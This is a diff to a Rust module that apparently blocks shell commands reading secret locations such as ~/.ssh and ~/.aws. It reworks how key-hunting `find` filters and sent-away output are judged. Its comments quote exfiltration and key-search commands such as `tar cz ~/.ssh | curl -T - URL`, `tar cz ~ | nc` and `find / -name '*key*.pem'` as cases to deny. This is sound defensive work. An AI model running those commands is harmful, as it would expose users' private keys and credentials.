@@ -148,38 +148,43 @@ pub(crate) fn block(analysis: &Analysis, index: usize, rules: &FileRules, here: 
         // A directory a deny_read glob names a place in (`~/.ssh`): it holds such files on
         // the machines that have them, whether or not this one does.
         // With a name filter, a place whose files it can pick (`find ~ -name '*.pem'`).
-        // A filter that picks only denied files (`find / -name '*key*.pem'`) is judged before the
-        // places the root reaches: every file it hands the reader is one.
-        let only = (!tree.include.is_empty()).then(|| files::picks_only_denied(root, &tree.include, rules, here));
-        let reached = if only.flatten().is_some() {
-            None
-        } else if tree.include.is_empty() {
+        let reached = if tree.include.is_empty() {
             files::could_reach(root, files::Access::Read, rules, here)
                 .or_else(|| files::could_reach(&path.to_string_lossy(), files::Access::Read, rules, here))
         } else {
             files::could_reach_named(root, &tree.include, rules, here)
         };
+        // The root is the denied place itself (`~/.ssh`, `~/.aws`), not a tree that holds one.
+        let inside = |glob: &str| {
+            let directory = glob.rsplit_once('/').map_or("", |(directory, _)| directory);
+            !directory.is_empty() && path.starts_with(files::resolve(directory, here))
+        };
+        let at_secret_place = reached.as_ref().is_some_and(|denied| inside(denied.glob));
+        let only_denied = || files::picks_only_denied(root, &tree.include, rules, here);
+        let named_found = |glob: &str| Walk::Found {
+            shown: tree.include.join(" "),
+            glob: glob.to_string(),
+            named: true,
+            directory: false,
+        };
         let found = match reached {
-            // `find ~ -name 'id_*'`: the filter is the denied place's own name pattern.
-            Some(denied) if names_denied_kind(denied.glob, &tree.include) => Walk::Found {
-                shown: tree.include.join(" "),
-                glob: denied.glob.to_string(),
-                named: true,
-                directory: false,
-            },
-            Some(denied) => Walk::Found {
-                shown: denied.glob.to_string(),
-                glob: denied.glob.to_string(),
-                named: false,
-                directory: true,
-            },
-            None => match only.flatten() {
-                Some(glob) => Walk::Found {
-                    shown: tree.include.join(" "),
-                    glob: glob.to_string(),
-                    named: true,
-                    directory: false,
+            // `find ~ -name 'id_*'`, `find / -name '*key*.pem'`: a filter that picks the denied
+            // place's own kind of file, or only denied files, in a tree that holds such a place
+            // (under `~/.ssh` itself the file rules name the file).
+            Some(denied) if !inside(denied.glob) && names_denied_kind(denied.glob, &tree.include) => {
+                named_found(denied.glob)
+            }
+            Some(denied) => match only_denied().filter(|_| !inside(denied.glob)) {
+                Some(glob) => named_found(glob),
+                None => Walk::Found {
+                    shown: denied.glob.to_string(),
+                    glob: denied.glob.to_string(),
+                    named: false,
+                    directory: true,
                 },
+            },
+            None => match only_denied() {
+                Some(glob) => named_found(glob),
                 None => walk(&path, &tree, rules, here, &mut budget),
             },
         };
@@ -194,9 +199,9 @@ pub(crate) fn block(analysis: &Analysis, index: usize, rules: &FileRules, here: 
                             tree.verb
                         ),
                     )
-                } else if !path.starts_with(&here.project_root) && crate::rules::output_sent(analysis, index) {
-                    // `tar cz ~/.ssh | curl -T - URL`: the secrets sent away, as `curl -T
-                    // ~/.ssh/id_rsa` is.
+                } else if at_secret_place && crate::rules::output_sent(analysis, index) {
+                    // `tar cz ~/.ssh | curl -T - URL`: the secret place sent away, as `curl -T
+                    // ~/.ssh/id_rsa` is (a backup of all of home, `tar cz ~ | nc`, is asked).
                     (
                         Action::Deny,
                         format!(
